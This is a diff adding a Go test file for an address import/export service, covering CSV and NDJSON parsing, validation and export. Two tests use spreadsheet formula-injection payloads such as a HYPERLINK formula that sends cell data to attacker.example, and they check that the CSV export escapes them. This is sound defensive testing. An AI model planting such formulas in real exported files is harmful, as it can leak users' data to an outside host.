@@ -0,0 +1,166 @@
+package services_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/arthur-tragante/liven-code-test/models"
+	"github.com/arthur-tragante/liven-code-test/services"
+	"github.com/arthur-tragante/liven-code-test/testutils"
+)
+
+func TestParseColumnMapping(t *testing.T) {
+	mapping, err := services.ParseColumnMapping("street:Rua, zipcode:CEP")
+	require.NoError(t, err)
+	assert.Equal(t, services.ColumnMapping{"street": "Rua", "zipcode": "CEP"}, mapping)
+
+	_, err = services.ParseColumnMapping("street")
+	assert.Error(t, err)
+
+	_, err = services.ParseColumnMapping("planet:Planeta")
+	assert.Error(t, err)
+}
+
+func TestParseAddressCSV(t *testing.T) {
+	document := "Rua,number,city,state,zipcode,country,ignored\n" +
+		"Main St,1,Springfield,IL,62701,USA,x\n" +
+		"\"Broken St,2\n"
+
+	rows, err := services.ParseAddressCSV(strings.NewReader(document), services.ColumnMapping{"street": "Rua"})
+	require.NoError(t, err)
+	require.Len(t, rows, 2)
+
+	assert.Equal(t, 2, rows[0].Line)
+	assert.Empty(t, rows[0].Errors)
+	assert.Equal(t, "Main St", rows[0].Address.Street)
+	assert.Equal(t, "62701", rows[0].Address.Zipcode)
+	assert.NotEmpty(t, rows[1].Errors)
+
+	_, err = services.ParseAddressCSV(strings.NewReader("street\n"), services.ColumnMapping{"city": "Cidade"})
+	assert.Error(t, err)
+}
+
+func TestParseAddressNDJSON(t *testing.T) {
+	document := `{"street":"Main St","zipcode":62701,"city":"Springfield"}` + "\n\n" +
+		`not json` + "\n" +
+		`{"street":["nested"]}` + "\n"
+
+	rows, err := services.ParseAddressNDJSON(strings.NewReader(document), services.ColumnMapping{})
+	require.NoError(t, err)
+	require.Len(t, rows, 3)
+
+	assert.Equal(t, "Main St", rows[0].Address.Street)
+	assert.Equal(t, "62701", rows[0].Address.Zipcode)
+	assert.Equal(t, 3, rows[1].Line)
+	assert.NotEmpty(t, rows[1].Errors)
+	assert.Equal(t, []string{"street must be a string"}, rows[2].Errors)
+}
+
+func TestValidateAddress(t *testing.T) {
+	valid := &models.Address{Street: "Main St", City: "Springfield", State: "IL", Zipcode: "62701", Country: "USA"}
+	assert.Empty(t, services.ValidateAddress(valid))
+
+	invalid := &models.Address{Street: "Main St", Zipcode: "62$701", Complement: strings.Repeat("a", 300)}
+	problems := services.ValidateAddress(invalid)
+	assert.Contains(t, problems, "city is required")
+	assert.Contains(t, problems, "complement must be at most 255 characters")
+	assert.Contains(t, problems, "zipcode may only contain letters, digits, spaces and dashes")
+}
+
+func (suite *ServiceTestSuite) TestImportAndExportAddresses() {
+	user := &models.User{
+		Name:     "Test User",
+		Email:    "test.user+import@example.com",
+		Password: "password123",
+	}
+
+	err := suite.UserService.Register(context.Background(), user)
+	assert.NoError(suite.T(), err)
+
+	rows := []services.ImportRow{
+		{Line: 2, Address: models.Address{Street: "Main St", City: "Springfield", State: "IL", Zipcode: "62701", Country: "USA"}},
+		{Line: 3, Address: models.Address{Street: "Missing City"}},
+		{Line: 4, Address: models.Address{Street: "Elm St", City: "Shelbyville", State: "IL", Zipcode: "62565", Country: "USA"}},
+	}
+
+	result, err := suite.AddressService.ImportAddresses(context.Background(), user.ID, rows, services.ImportAllOrNothing)
+	assert.NoError(suite.T(), err)
+	assert.False(suite.T(), result.Committed)
+	assert.Equal(suite.T(), services.ImportStatusSkipped, result.Rows[0].Status)
+	assert.Equal(suite.T(), services.ImportStatusInvalid, result.Rows[1].Status)
+
+	addresses, err := suite.AddressService.GetAllAddresses(context.Background(), user.ID)
+	assert.NoError(suite.T(), err)
+	assert.Empty(suite.T(), addresses)
+
+	result, err = suite.AddressService.ImportAddresses(context.Background(), user.ID, rows, services.ImportBestEffort)
+	assert.NoError(suite.T(), err)
+	assert.True(suite.T(), result.Committed)
+	assert.Equal(suite.T(), 2, result.Created)
+	assert.Equal(suite.T(), 1, result.Rejected)
+	assert.NotZero(suite.T(), result.Rows[2].AddressID)
+
+	var csvExport bytes.Buffer
+	err = suite.AddressService.ExportAddresses(context.Background(), user.ID, services.FormatCSV, &csvExport)
+	assert.NoError(suite.T(), err)
+	lines := strings.Split(strings.TrimSpace(csvExport.String()), "\n")
+	assert.Len(suite.T(), lines, 3)
+	assert.True(suite.T(), strings.HasPrefix(lines[0], "address_id,street,number"))
+	assert.Contains(suite.T(), lines[1], "Main St")
+
+	var ndjsonExport bytes.Buffer
+	err = suite.AddressService.ExportAddresses(context.Background(), user.ID, services.FormatNDJSON, &ndjsonExport)
+	assert.NoError(suite.T(), err)
+	assert.Len(suite.T(), strings.Split(strings.TrimSpace(ndjsonExport.String()), "\n"), 2)
+}
+
+func (suite *ServiceTestSuite) TestExportEscapesSpreadsheetFormulas() {
+	ctx := context.Background()
+	user := testutils.CreateUser(suite.T(), suite.UserService.Users)
+	street := `=HYPERLINK("https://attacker.example/?leak="&A1,"Click")`
+	address := &models.Address{UserID: user.ID, Street: street, Number: "-12", City: "Springfield", State: "IL", Zipcode: "62701", Country: "USA"}
+	suite.Require().NoError(suite.AddressService.CreateAddress(ctx, address))
+
+	var csvExport bytes.Buffer
+	suite.Require().NoError(suite.AddressService.ExportAddresses(ctx, user.ID, services.FormatCSV, &csvExport))
+	records, err := csv.NewReader(&csvExport).ReadAll()
+	suite.Require().NoError(err)
+	suite.Require().Len(records, 2)
+	assert.Equal(suite.T(), "'"+street, records[1][1])
+	assert.Equal(suite.T(), "'-12", records[1][2])
+	assert.Equal(suite.T(), "Springfield", records[1][4])
+
+	// NDJSON isn't opened by spreadsheets, the values stay as they are
+	var ndjsonExport bytes.Buffer
+	suite.Require().NoError(suite.AddressService.ExportAddresses(ctx, user.ID, services.FormatNDJSON, &ndjsonExport))
+	var exported models.Address
+	suite.Require().NoError(json.Unmarshal(ndjsonExport.Bytes(), &exported))
+	assert.Equal(suite.T(), street, exported.Street)
+}
+
+func (suite *ServiceTestSuite) TestExportImportRoundTrip() {
+	ctx := context.Background()
+	user := testutils.CreateUser(suite.T(), suite.UserService.Users)
+	streets := []string{`=HYPERLINK("https://attacker.example","Click")`, "+55 Avenida Paulista", "'=quoted by hand", "''@twice", "'Main St", "Main St"}
+	for _, street := range streets {
+		address := &models.Address{UserID: user.ID, Street: street, Number: "-1", City: "Springfield", State: "IL", Zipcode: "62701", Country: "USA"}
+		suite.Require().NoError(suite.AddressService.CreateAddress(ctx, address))
+	}
+
+	var csvExport bytes.Buffer
+	suite.Require().NoError(suite.AddressService.ExportAddresses(ctx, user.ID, services.FormatCSV, &csvExport))
+	rows, err := services.ParseAddressCSV(&csvExport, nil)
+	suite.Require().NoError(err)
+	suite.Require().Len(rows, len(streets))
+	for i, row := range rows {
+		assert.Equal(suite.T(), streets[i], row.Address.Street)
+		assert.Equal(suite.T(), "-1", row.Address.Number)
+	}
+}